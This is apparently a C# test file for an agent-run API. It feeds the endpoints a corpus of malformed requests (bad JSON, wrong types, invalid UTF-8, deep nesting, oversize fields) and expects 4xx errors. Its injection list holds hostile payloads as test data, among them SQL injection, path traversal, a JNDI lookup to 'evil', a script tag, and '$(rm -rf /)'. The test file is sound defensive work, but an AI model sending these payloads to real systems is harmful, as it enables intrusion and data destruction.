using System.Net;
using System.Text;
using System.Text.Json;
using Agentry.Api.Tests.Support;
using Agentry.Testing;

namespace Agentry.Api.Tests.Endpoints;

/// <summary>
/// A corpus of hostile and malformed requests over every endpoint that takes input: each gets a 4xx Problem
/// Details (never a 500, a hang or an empty answer), and the service answers a normal request right after.
/// </summary>
[Collection(AgentryTestGroup.Name)]
public sealed class BadInputCorpusTests(AgentryFixture fixture)
{
    private const string Run = "/v1/agents/assistant/runs";

    public static TheoryData<string, string, string, string, byte[], string?> Corpus()
    {
        var corpus = new TheoryData<string, string, string, string, byte[], string?>();
        void Add(string name, string method, string path, string body, string contentType = "application/json", string? header = null) =>
            corpus.Add(name, method, path, contentType, Encoding.UTF8.GetBytes(body), header);
        void AddBytes(string name, byte[] body) => corpus.Add(name, "POST", Run, "application/json", body, null);

        // Malformed JSON.
        string[] malformed =
        [
            "", " ", "{", "}", "[", "{]", "{\"input\"}", "{\"input\":}", "{\"input\":\"hi\",}", "{,\"input\":\"hi\"}",
            "{'input':'hi'}", "{input:\"hi\"}", "{\"input\":\"hi\"", "{\"input\":\"hi\"}}", "{\"input\":\"hi\"} {}",
            "{\"input\":\"unterminated}", "{\"input\":\"bad \\q escape\"}", "{\"input\":\"\\u12\"}", "{\"input\":\"hi\" \"x\":1}",
            "{\"input\":tru}", "{\"input\":nul}", "{\"input\":0x10}", "{\"input\":01}", "{\"input\":+1}", "{\"input\":.5}",
            "{\"input\":NaN}", "{\"input\":Infinity}", "/* comment */ {\"input\":\"hi\"}", "{\"input\":\"hi\"} // trailing",
            "\"just a string\"", "42", "true", "null", "[]", "[{\"input\":\"hi\"}]", "{\"input\":\"a\",\"input\":\"b\",\"stream\":\"x\"}",
            "\u00EF\u00BB\u00BF{", "{\"input\":\"hi\"\u0000}",
        ];
        foreach ((string body, int i) in malformed.Select((b, i) => (b, i)))
        {
            Add($"malformed JSON #{i}", "POST", Run, body);
        }

        // Wrong types, field by field.
        (string Field, string[] Values)[] wrongTypes =
        [
            ("input", ["1", "1.5", "true", "false", "[]", "[\"hi\"]", "{}", "{\"text\":\"hi\"}", "null"]),
            ("session_id", ["1", "true", "[]", "{}"]),
            ("stream", ["\"yes\"", "\"true\"", "1", "0", "[]", "{}"]),
            ("max_tokens", ["\"10\"", "1.5", "true", "[]", "{}", "-1", "0", "2147483648", "1e309", "99999999999999999999"]),
            ("max_cost_usd", ["\"1\"", "true", "[]", "{}", "-1", "0", "1001", "1e400"]),
            ("metadata", ["1", "\"x\"", "[]", "true", "{\"a\":1}", "{\"a\":true}", "{\"a\":{}}", "{\"a\":[]}", "{\"a\":null}"]),
        ];
        foreach ((string field, string[] values) in wrongTypes)
        {
            foreach (string value in values)
            {
                string body = field == "input" ? $"{{\"input\":{value}}}" : $"{{\"input\":\"hi\",\"{field}\":{value}}}";
                Add($"{field} = {value}", "POST", Run, body);
            }
        }

        // Unknown and misspelt fields.
        foreach (string field in new[] { "Input", "INPUT", "inputs", "sesion_id", "model", "system", "messages", "tools", "temperature", "__proto__", "constructor", "$where" })
        {
            Add($"unknown field {field}", "POST", Run, $"{{\"input\":\"hi\",\"{field}\":\"x\"}}");
        }

        // Invalid UTF-8.
        byte[][] invalidUtf8 =
        [
            [0xC3, 0x28], [0xA0, 0xA1], [0xE2, 0x28, 0xA1], [0xE2, 0x82, 0x28], [0xF0, 0x28, 0x8C, 0xBC], [0xF0, 0x90, 0x28, 0xBC],
            [0xF8, 0xA1, 0xA1, 0xA1, 0xA1], [0xFC, 0xA1, 0xA1, 0xA1, 0xA1, 0xA1], [0xFF], [0xFE, 0xFF], [0xC0, 0xAF], [0xED, 0xA0, 0x80],
        ];
        foreach ((byte[] bad, int i) in invalidUtf8.Select((b, i) => (b, i)))
        {
            AddBytes($"invalid UTF-8 #{i}", [.. "{\"input\":\"hi "u8, .. bad, .. "\"}"u8]);
        }

        AddBytes("UTF-16 body", Encoding.Unicode.GetBytes("{\"input\":\"hi\"}"));
        AddBytes("lone surrogate escape", "{\"input\":\"\\ud800\"}"u8.ToArray());
        AddBytes("reversed surrogate escapes", "{\"input\":\"\\udc00\\ud800\"}"u8.ToArray());

        // Oversize fields.
        Add("input over the limit", "POST", Run, "{\"input\":\"" + new string('a', 100_001) + "\"}");
        // A body over the 1 MiB limit is BadInputTests.Run_WithOversizeBody_Is413: Kestrel may close the connection
        // while the client still uploads, which is a client-side error there, not an answer to check here.
        Add("17 metadata entries", "POST", Run, "{\"input\":\"hi\",\"metadata\":{" + string.Join(',', Enumerable.Range(0, 17).Select(i => $"\"k{i}\":\"v\"")) + "}}");
        Add("metadata value too long", "POST", Run, "{\"input\":\"hi\",\"metadata\":{\"k\":\"" + new string('v', 257) + "\"}}");
        Add("metadata key too long", "POST", Run, "{\"input\":\"hi\",\"metadata\":{\"" + new string('k', 65) + "\":\"v\"}}");
        Add("metadata empty key", "POST", Run, "{\"input\":\"hi\",\"metadata\":{\"\":\"v\"}}");
        Add("session id too long", "POST", Run, "{\"input\":\"hi\",\"session_id\":\"ses_" + new string('a', 300) + "\"}");
        Add("huge number", "POST", Run, "{\"input\":\"hi\",\"max_tokens\":" + new string('9', 5000) + "}");

        // Deep nesting.
        foreach (int depth in new[] { 65, 100, 1000, 10_000 })
        {
            Add($"nested arrays x{depth}", "POST", Run, "{\"input\":" + new string('[', depth) + new string(']', depth) + "}");
            Add($"nested objects x{depth}", "POST", Run, string.Concat(Enumerable.Repeat("{\"a\":", depth)) + "1" + new string('}', depth));
        }

        // Control characters in text fields.
        for (int c = 0; c < 32; c++)
        {
            if (c is '\t' or '\n' or '\r')
            {
                continue;
            }

            string escaped = $"\\u{c:x4}";
            Add($"control U+{c:X4} in input", "POST", Run, $"{{\"input\":\"hi{escaped}there\"}}");
        }

        foreach (string escaped in new[] { "\\u007f", "\\u0085", "\\u009b" })
        {
            Add($"control {escaped} in input", "POST", Run, $"{{\"input\":\"hi{escaped}\"}}");
            Add($"control {escaped} in metadata", "POST", Run, $"{{\"input\":\"hi\",\"metadata\":{{\"k\":\"v{escaped}\"}}}}");
        }

        Add("control in metadata key", "POST", Run, "{\"input\":\"hi\",\"metadata\":{\"k\\u0000\":\"v\"}}");

        // Injection strings where an identifier belongs.
        string[] injections =
        [
            "' OR '1'='1", "1; DROP TABLE sessions--", "../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "ses_x\r\nSet-Cookie: a=b",
            "{{7*7}}", "${jndi:ldap://evil/a}", "<script>alert(1)</script>", "ses_\u202Egnp.exe", "*", "ses_x\u0000y",
            "agentry:{default}:session:x", "$(rm -rf /)", "`id`", "ses_%00", "ses_ x",
        ];
        foreach (string injection in injections)
        {
            Add($"session id {injection}", "POST", Run, JsonSerializer.Serialize(new { input = "hi", session_id = injection }));
        }

        foreach (string agent in new[] { "nobody", "%27%20OR%201%3D1", "..%2F..%2Fadmin", "%3Cscript%3E", "ASSISTANT", new string('a', 300), "%7B%7B7*7%7D%7D" })
        {
            Add($"agent {agent[..Math.Min(20, agent.Length)]}", "POST", $"/v1/agents/{agent}/runs", "{\"input\":\"hi\"}");
        }

        foreach (string id in new[] { "%27%20OR%201%3D1", "..%2F..", "%3Cscript%3E", "ses_doesnotexist", new string('x', 300), "*" })
        {
            Add($"GET session {id[..Math.Min(20, id.Length)]}", "GET", $"/v1/sessions/{id}", "");
            Add($"DELETE session {id[..Math.Min(20, id.Length)]}", "DELETE", $"/v1/sessions/{id}", "");
        }

        foreach (string key in new[] { new string('k', 300), "key with\ttab", "key with space", "x y z" })
        {
            Add($"idempotency key {key[..Math.Min(10, key.Length)]}", "POST", Run, "{\"input\":\"hi\"}", header: key);
        }

        // Wrong content types.
        foreach (string type in new[] { "text/plain", "application/x-www-form-urlencoded", "application/xml", "multipart/form-data; boundary=x", "application/octet-stream" })
        {
            Add($"content type {type}", "POST", Run, "{\"input\":\"hi\"}", type);
        }

        // Sessions endpoint bodies.
        foreach (string body in new[] { "{}", "{\"agent\":1}", "{\"agent\":null}", "{\"agent\":[]}", "{\"agent\":\"nobody\"}", "{\"agent\":\"assistant\",\"x\":1}", "{", "[]" })
        {
            Add($"create session {body}", "POST", "/v1/sessions", body);
        }

        // Usage queries.
        foreach (string query in new[] { "from=abc", "to=2026-13-40", "from=2026-01-01&to=2025-01-01", "from=2020-01-01&to=2026-01-01", "from=%27%20OR%201%3D1", "to=9999999999" })
        {
            Add($"usage {query}", "GET", $"/v1/usage?{query}", "");
        }

        // Admin bodies (the anonymous Development caller is an admin on loopback).
        foreach (string body in new[] { "{}", "{\"tenant\":1}", "{\"tenant\":\"UPPER\"}", "{\"tenant\":\"a b\"}", "{\"tenant\":\"../x\"}", "{\"tenant\":\"t\",\"agents\":\"assistant\"}", "{\"tenant\":\"t\",\"agents\":[1]}", "{\"tenant\":\"t\",\"admin\":1}", "{\"tenant\":\"t\",\"requests_per_minute\":\"many\"}", "{\"tenant\":\"t\",\"tokens_per_minute\":-5}" })
        {
            Add($"create key {body}", "POST", "/v1/admin/keys", body);
        }

        Add("revoke key malformed id", "DELETE", "/v1/admin/keys/%27%20OR%201", "");
        return corpus;
    }

    [Fact]
    public async Task NulInThePath_IsRefusedByKestrelBeforeTheApp_With400()
    {
        // Kestrel rejects a decoded NUL in the path itself (no Problem Details: the request never reaches the app).
        using HttpResponseMessage response = await fixture.Server.Api.PostAsync("/v1/agents/a%00b/runs", JsonHttp.Body("{\"input\":\"hi\"}"));

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        using HttpResponseMessage healthy = await fixture.Server.Api.GetAsync("/v1/agents");
        Assert.Equal(HttpStatusCode.OK, healthy.StatusCode);
    }

    [Fact]
    public void Corpus_HasAtLeast200Cases() => Assert.True(Corpus().Count >= 200, $"the corpus has {Corpus().Count} cases");

    [Theory]
    [MemberData(nameof(Corpus))]
    public async Task BadRequest_Gets4xxProblemDetails_AndTheServiceStillAnswers(string name, string method, string path, string contentType, byte[] body, string? idempotencyKey)
    {
        using var request = new HttpRequestMessage(new HttpMethod(method), path);
        if (method is "POST")
        {
            request.Content = JsonHttp.Raw(body, contentType);
        }

        if (idempotencyKey is not null)
        {
            request.Headers.TryAddWithoutValidation("Idempotency-Key", idempotencyKey);
        }

        using HttpResponseMessage response = await fixture.Server.Api.SendAsync(request);

        int status = (int)response.StatusCode;
        Assert.True(status is >= 400 and < 500, $"{name}: {status}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        JsonElement problem = await JsonHttp.ReadAsync(response);
        Assert.Equal(status, problem.GetProperty("status").GetInt32());

        using HttpResponseMessage healthy = await fixture.Server.Api.GetAsync("/v1/agents");
        Assert.Equal(HttpStatusCode.OK, healthy.StatusCode);
    }
}
